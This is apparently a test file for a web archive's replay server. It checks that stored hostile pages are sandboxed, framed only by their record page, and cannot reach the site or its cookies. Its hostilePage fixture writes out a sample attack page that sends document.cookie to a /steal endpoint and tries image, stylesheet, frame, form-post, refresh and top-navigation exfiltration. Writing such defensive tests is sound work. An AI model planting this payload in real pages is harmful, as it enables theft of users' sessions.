/** What a hostile page that was archived can do where a reader looks at it: nothing. */
import { createHash } from 'node:crypto'
import type { ServerType } from '@hono/node-server'
import { serve } from '@hono/node-server'
import { Hono } from 'hono'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launchTestBrowser } from '../../test/browser.ts'
import { policyPage, termsWith } from '../../test/followed-site.ts'
import type { EvidenceDesk } from '../service/evidence/index.ts'
import { openTestSite, type TestSite } from './fixtures/site.ts'
import { createReplay, replayForm } from './replay.ts'

const VERSION = '/versions/CW-V-000010'
let site: TestSite
let siteServer: ServerType
let replayServer: ServerType
let origin = ''
let replay = ''
let browser: Browser | null = null
let hostile = ''
const asked: string[] = []

beforeAll(async () => {
  const framedBy: string[] = []
  const desk = deskWith(() => hostile)
  ;[replayServer, replay] = await listen(createReplay({ evidence: desk, framedBy }))
  site = await openTestSite({ evidence: desk, replay })
  const outer = new Hono()
  outer.use(async (c, next) => {
    asked.push(`${c.req.method} ${c.req.path}`)
    await next()
    c.header('Set-Cookie', 'session=secret; Path=/')
  })
  outer.route('/', site.web)
  ;[siteServer, origin] = await listen(outer)
  framedBy.push(origin)
  hostile = hostilePage(origin)
  browser = await launchTestBrowser()
})
afterAll(async () => {
  await browser?.close()
  for (const server of [siteServer, replayServer]) await new Promise((resolve) => server.close(resolve))
  await site[Symbol.asyncDispose]()
})

describe('received pages', () => {
  it('are served with a policy under which nothing runs, at their own origin only', async () => {
    const name = sha256(hostile)
    const response = await fetch(`${replay}/${name}.html`)
    expect(response.status).toBe(200)
    const policy = response.headers.get('content-security-policy')!
    expect(policy).toMatch(/^sandbox; default-src 'none'/)
    expect(policy).toContain(`frame-ancestors ${origin}`)
    expect(policy).not.toMatch(/script-src|allow-/)
    expect(response.headers.get('set-cookie')).toBeNull()
    expect(await response.text()).toBe(hostile)
    expect((await fetch(`${origin}/${name}.html`)).status).toBe(404)
  })

  it.each(['svg', 'js', 'css', 'pdf', 'htm', 'html/x'])('are not served as %s', async (form) => {
    expect((await fetch(`${replay}/${sha256(hostile)}.${form}`)).status).toBe(404)
  })

  it('are nothing where nothing of that name is held', async () => {
    expect((await fetch(`${replay}/${'0'.repeat(64)}.html`)).status).toBe(404)
  })

  it('are pages and texts, and nothing else', () => {
    expect(replayForm('text/html; charset=utf-8')).toBe('html')
    expect(replayForm('text/markdown')).toBe('txt')
    for (const type of ['image/svg+xml', 'application/pdf', 'application/javascript', '']) {
      expect(replayForm(type)).toBeNull()
    }
  })

  it('are framed by the page of their record, whose policy allows that one frame', async () => {
    const response = await fetch(`${origin}${VERSION}/received/${sha256(hostile)}`)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-security-policy')).toContain(`frame-src ${replay}`)
    expect(await response.text()).toMatch(/<iframe[^>]* sandbox=""/)
    expect((await fetch(`${origin}${VERSION}`)).headers.get('content-security-policy')).not.toContain('frame-src')
    expect((await fetch(`${origin}${VERSION}/received/${'0'.repeat(64)}`)).status).toBe(404)
  })
})

describe('received pages of a provision', () => {
  it('are offered by its page, and framed like those of its version', async () => {
    const name = sha256(hostile)
    const html = await (await fetch(`${origin}/CW-P-000001`)).text()
    expect(html).toContain(`href="/CW-P-000001/received/${name}"`)
    const framed = await fetch(`${origin}/CW-P-000001/received/${name}`)
    expect(framed.status).toBe(200)
    expect(framed.headers.get('content-security-policy')).toContain(`frame-src ${replay}`)
    expect(await framed.text()).toMatch(/<iframe[^>]* sandbox=""/)
    expect((await fetch(`${origin}/CW-P-000001/received/${'0'.repeat(64)}`)).status).toBe(404)
    expect((await fetch(`${origin}/CW-D-000001/received/${name}`)).status).toBe(404)
  })
})

describe('a hostile page in a real browser', () => {
  it('is seen in its frame, and reaches neither the site nor its cookies', async ({ skip }) => {
    if (!browser) return skip('no Chromium can be had on this machine')
    await using context = await browser.newContext()
    const page = await context.newPage()
    await page.goto(`${origin}${VERSION}`)
    expect(await context.cookies()).toHaveLength(1)
    asked.length = 0
    await page.goto(`${origin}${VERSION}/received/${sha256(hostile)}`)
    const frame = page.frameLocator('iframe.received')
    expect(await frame.locator('h1').textContent()).toContain('Terms of Service')
    await frame
      .locator('#steal')
      .click({ timeout: 2_000 })
      .catch(() => undefined)
    await frame
      .locator('#leave')
      .click({ timeout: 2_000 })
      .catch(() => undefined)
    await page.waitForTimeout(1_500)
    expect(page.url()).toContain('/received/')
    expect(page.url().startsWith(origin)).toBe(true)
    expect(await page.title()).not.toContain('stolen')
    expect(asked.filter((one) => /steal|POST/.test(one))).toEqual([])
    expect(context.pages()).toHaveLength(1)
  })

  it('runs nothing where somebody opens it by itself', async ({ skip }) => {
    if (!browser) return skip('no Chromium can be had on this machine')
    await using context = await browser.newContext()
    const page = await context.newPage()
    const complaints: string[] = []
    page.on('console', (message) => complaints.push(message.text()))
    asked.length = 0
    await page.goto(`${replay}/${sha256(hostile)}.html`)
    await page.waitForTimeout(1_500)
    expect(await page.title()).toBe('Terms of Service | Larkspur Chat')
    // It tried.
    expect(complaints.join('\n')).toContain('Blocked script execution')
    expect(await page.locator('#result').textContent()).toBe('nothing ran')
    expect(page.url()).toBe(`${replay}/${sha256(hostile)}.html`)
    expect(asked).toEqual([])
  })
})

/** Tries what scripts, forms, frames, images, styles and refreshes can do. */
function hostilePage(target: string): string {
  const page = policyPage('Terms of Service', termsWith())
  const attack = `<p id="result">nothing ran</p>
<script>
document.getElementById('result').textContent = 'a script ran'
document.title = 'stolen'
try { fetch('${target}/steal?c=' + document.cookie, { credentials: 'include', mode: 'no-cors' }) } catch {}
try { new Image().src = '${target}/steal-image' } catch {}
try { parent.document.title = 'stolen' } catch {}
try { top.location = '${target}/steal-top' } catch {}
try { window.open('${target}/steal-window') } catch {}
</script>
<img src="${target}/steal-by-image" onerror="document.title='stolen'">
<link rel="stylesheet" href="${target}/steal-style">
<style>body { background: url(${target}/steal-background) } @import url(${target}/steal-import);</style>
<iframe src="${target}/steal-frame"></iframe>
<object data="${target}/steal-object"></object>
<meta http-equiv="refresh" content="0; url=${target}/steal-refresh">
<form id="f" method="post" action="${target}/steal-form"><button id="steal">Accept</button></form>
<a id="leave" target="_top" href="${target}/steal-link">Leave</a>
<svg onload="document.title='stolen'"></svg>`
  return page.replace('</body>', `${attack}</body>`)
}

/** Holds one page, as the desk of an archive does. */
function deskWith(page: () => string): EvidenceDesk {
  const bytes = () => Buffer.from(page())
  const statement = { kind: 'not-verified', reason: 'a test' } as const
  return {
    bundle: async () => null,
    logResource: async () => null,
    verifierKeys: async () => [],
    snapshot: async (name) => (name === sha256(page()) ? { kind: 'held', bytes: bytes() } : null),
    proof: async () => ({
      stored: statement,
      inLog: statement,
      confirmed: statement,
      parts: [
        {
          sha256: sha256(page()),
          sizeBytes: bytes().length,
          mediaType: 'text/html; charset=utf-8',
          url: 'https://lumenwrite.example/terms',
          receivedAt: '2026-01-01T00:00:00Z',
          gone: null,
          witness: null,
        },
      ],
    }),
  }
}

function listen(app: Hono): Promise<[ServerType, string]> {
  return new Promise((resolve) => {
    const server = serve({ fetch: app.fetch, port: 0, hostname: '127.0.0.1' }, ({ port }) =>
      resolve([server, `http://127.0.0.1:${port}`]),
    )
  })
}

function sha256(text: string): string {
  return createHash('sha256').update(text).digest('hex')
}
